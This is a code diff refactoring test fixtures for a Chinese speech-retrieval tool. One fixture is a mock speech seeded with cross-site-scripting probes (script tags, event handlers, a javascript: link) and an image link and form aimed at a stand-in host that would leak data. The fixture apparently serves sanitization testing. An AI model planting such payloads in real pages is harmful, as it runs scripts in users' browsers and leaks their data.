@@ -5,6 +5,7 @@ from __future__ import annotations
 import re
 from collections import Counter
 from collections.abc import Mapping, Sequence
+from itertools import pairwise
 from typing import Any
 
 from speechrag.errors import IndexMissing
@@ -67,11 +68,17 @@ PETITION = """同志们：
 对久拖不决、激化矛盾的，由县委督查室会同信访局挂牌督办。"""
 
 MALICIOUS_TITLE = '在<img src=x onerror="window.__pwn=1">网络安全工作会议上的讲话'
-MALICIOUS = """同志们：<script>window.__pwn=2</script>
-一、<b onmouseover="window.__pwn=3">严防</b>网页木马传播
-网页木马常藏在这样的代码里：<img src=x onerror="window.__pwn=4"><svg onload=window.__pwn=5>，点开链接 [领取补贴](javascript:window.__pwn=6) 就会中招。
-二、不信图片诱饵
-群发邮件里的图片 ![收益](http://198.51.100.7/leak?q=secret) 会把收件人的地址传出去；形如 <form action="http://198.51.100.7/"><input name=p></form> 的登录框不要填写。"""
+MALICIOUS = "\n".join(
+    (
+        "同志们：<script>window.__pwn=2</script>",
+        '一、<b onmouseover="window.__pwn=3">严防</b>网页木马传播',
+        '网页木马常藏在这样的代码里：<img src=x onerror="window.__pwn=4"><svg onload=window.__pwn=5>，'
+        "点开链接 [领取补贴](javascript:window.__pwn=6) 就会中招。",
+        "二、不信图片诱饵",
+        "群发邮件里的图片 ![收益](http://198.51.100.7/leak?q=secret) 会把收件人的地址传出去；"
+        '形如 <form action="http://198.51.100.7/"><input name=p></form> 的登录框不要填写。',
+    )
+)
 
 _HEADING = re.compile(r"^(?:([一二三四五六七八九十]+、)|(（[一二三四五六七八九十]+）))(.{2,40})$")
 _ENOUGH = 3  # shared character pairs that count as evidence
@@ -128,9 +135,7 @@ class FakeEngine:
             speech = self._speeches[passage.speech_id]
             original = self.original(passage.speech_id, passage.start, passage.end)
             copies = 2 if rank == 1 else 0
-            hits.append(
-                Hit(rank, -score, passage, speech.source, speech.title, original, {}, speech.metadata, copies)
-            )
+            hits.append(Hit(rank, -score, passage, speech.source, speech.title, original, {}, speech.metadata, copies))
         return hits
 
     def ask(self, question: str, filters: Mapping[str, tuple[str, ...]] = {}, llm: str = "") -> Answer:
@@ -165,18 +170,24 @@ class FakeEngine:
         def point(level: int, heading: str, text: str, *numbers: int, points: tuple[OutlinePoint, ...] = ()) -> Any:
             return OutlinePoint(heading, level, "task", text, numbers, points)
 
+        first = (cite("d001-1", "信息是领导决策的依据。"), cite("d002-1", "一处也不能放过。"))
+        topics = cite("d001-1", "选题会每两周开一次，由办公室主任主持。")
+        visits = cite("d001-1", "每季度到基层不少于五次")
+        limits = (
+            cite("d001-1", "重大突发事件最迟不得晚于事发后两小时上报"),
+            cite("d003-1", "六十日内办结，不得推诿。"),
+        )
+        duty = (cite("d001-1", "各单位主要负责同志是信息工作的第一责任人"), cite("d003-1", "是信访工作的第一责任人。"))
+        middle = (
+            point(2, "紧扣中心选题", "围绕【待补：本县年度重点工作】找题目。", topics),
+            point(2, "注重调查研究", "走得下去、沉得下来、提得上来。", visits),
+            point(2, "严格报送时限", "重大突发事件最迟不得晚于【待补：时限】上报。", *limits),
+        )
         points = (
-            point(1, "提高认识，增强做好信息工作的责任感", "讲清信息工作服务决策的作用，点出差距。",
-                  cite("d001-1", "信息是领导决策的依据。"), cite("d002-1", "一处也不能放过。")),
-            point(1, "突出重点，提高信息报送的质量", "围绕中心选题，深入调研，严守时限。", points=(
-                point(2, "紧扣中心选题", "围绕【待补：本县年度重点工作】找题目。", cite("d001-1", "选题会每两周开一次，由办公室主任主持。")),
-                point(2, "注重调查研究", "走得下去、沉得下来、提得上来。", cite("d001-1", "每季度到基层不少于五次")),
-                point(2, "严格报送时限", "重大突发事件最迟不得晚于【待补：时限】上报。",
-                      cite("d001-1", "重大突发事件最迟不得晚于事发后两小时上报"), cite("d003-1", "六十日内办结，不得推诿。")),
-            )),
-            point(1, "加强领导，为信息工作提供保障", "主要负责同志负总责，分管领导具体抓，信息员专人干。",
-                  cite("d001-1", "各单位主要负责同志是信息工作的第一责任人"), cite("d003-1", "各级各部门主要负责人是信访工作的第一责任人。")),
-        )  # fmt: skip
+            point(1, "提高认识，增强做好信息工作的责任感", "讲清信息工作服务决策的作用，点出差距。", *first),
+            point(1, "突出重点，提高信息报送的质量", "围绕中心选题，深入调研，严守时限。", points=middle),
+            point(1, "加强领导，为信息工作提供保障", "主要负责同志负总责，分管领导具体抓。", *duty),
+        )
         return Outline(
             brief,
             ("在全县信息工作会议上的讲话", "提高站位，狠抓落实，推动全县信息工作再上新台阶"),
@@ -233,7 +244,7 @@ def _passages(speech: Speech) -> list[Passage]:
     """Cut a speech at its headings."""
     cuts = [0, *(section.start for section in speech.sections), len(speech.text)]
     found = []
-    for ordinal, (start, stop) in enumerate(zip(cuts, cuts[1:], strict=False), start=1):
+    for ordinal, (start, stop) in enumerate(pairwise(cuts), start=1):
         end = len(speech.text[:stop].rstrip("\n"))
         inside = [s for s in speech.sections if s.start <= start < s.end]
         headings = tuple(s.label + s.heading for s in inside)
